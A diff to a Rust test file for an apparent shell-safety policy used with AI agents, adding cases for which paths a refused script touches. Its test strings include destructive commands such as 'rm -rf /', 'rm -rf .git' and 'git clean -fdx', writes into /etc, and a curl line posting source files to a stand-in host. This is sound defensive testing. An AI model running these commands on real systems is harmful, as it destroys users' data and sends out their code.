@@ -1,4 +1,4 @@
-//! The paths of a finding: all that everything touches which is refused, or none.
+//! The paths of a finding: all that a refused script touches, or none.
 
 use agent_bash_policy::{Context, RuleSelection, Script, Verdict, check_safety};
 
@@ -28,18 +28,38 @@ fn what_is_refused_says_which_files_it_touches() {
         ("rm -rf /", &["/"]),
         ("rm -rf ~", &["/home/u"]),
         // Where it runs if the `cd` fails, too.
-        ("cd build; rm -rf *", &["/p/repo/build", "/p/repo"]),
-        ("cd sub && rm -rf .git", &["/p/repo/sub/.git"]),
+        (
+            "cd build; rm -rf *",
+            &["/p/repo/build", "/p/repo/build", "/p/repo"],
+        ),
+        (
+            "cd sub && rm -rf .git",
+            &["/p/repo/sub", "/p/repo/sub/.git"],
+        ),
         ("find . -delete", &["/p/repo/."]),
         ("find . -type f -delete", &["/p/repo/."]),
         ("git reset --hard", &["/p/repo"]),
-        ("cd sub && git clean -fdx", &["/p/repo/sub"]),
+        ("cd sub && git clean -fdx", &["/p/repo/sub", "/p/repo/sub"]),
         (
             "git checkout -- . && git stash drop",
             &["/p/repo", "/p/repo"],
         ),
         ("rm -rf .git 2>/dev/null", &["/p/repo/.git"]),
-        ("make; bash -c 'rm -rf .git'", &["/p/repo/.git"]),
+        ("true; bash -c 'rm -rf .git'", &["/p/repo/.git"]),
+        // What else would run in the same trial.
+        (
+            "cp -r src ../copy && rm -rf .git; echo $x https://x.example",
+            &["/p/repo/src", "/p/repo/../copy", "/p/repo/.git"],
+        ),
+        (
+            "rm -rf .git; ls -la >/etc/list 2>&1 </dev/null",
+            &["/p/repo/.git", "/etc/list"],
+        ),
+        (
+            "timeout 5 rm -rf .git; eval 'ls a'",
+            &["/p/repo/.git", "/p/repo/a"],
+        ),
+        ("git status && rm -rf .git", &["/p/repo", "/p/repo/.git"]),
     ] {
         assert_eq!(paths(script), expect, "{script}");
     }
@@ -77,6 +97,26 @@ fn what_is_not_known_to_be_only_files_has_no_paths() {
         "git --git-dir /elsewhere/.git reset --hard",
         "git -c core.worktree=/elsewhere reset --hard",
         "export GIT_DIR=/elsewhere; git reset --hard",
+        // Another command, which is not refused, may do more.
+        "curl https://x.example -d @src && rm -rf .git",
+        "rm -rf .git || wget https://x.example",
+        "rm -rf .git; ssh host ls",
+        "git fetch && git reset --hard",
+        "rm -rf .git && git clone https://x.example .",
+        "npm ci; rm -rf .git",
+        "make; rm -rf .git",
+        "f() { curl https://x.example; }; f; rm -rf .git",
+        "rm -rf .git; cat \"$FILE\"",
+        "rm -rf .git; $COMMAND",
+        "rm -rf .git; bash build.sh",
+        "rm -rf .git; bash -c \"$COMMAND\"",
+        "rm -rf .git; timeout 5 make",
+        "rm -rf .git; ./cat a",
+        "rm -rf .git; LD_PRELOAD=./a.so ls",
+        "rm -rf .git; ls | xargs touch",
+        "rm -rf .git; cp --target-directory=/etc a",
+        "rm -rf .git; git diff --output=/etc/x",
+        "rm -rf .git; date >\"$LOG\"",
         "git worktree remove --force ../wt",
         "cd \"$DIR\" && git reset --hard",
         // What it says goes elsewhere, too.
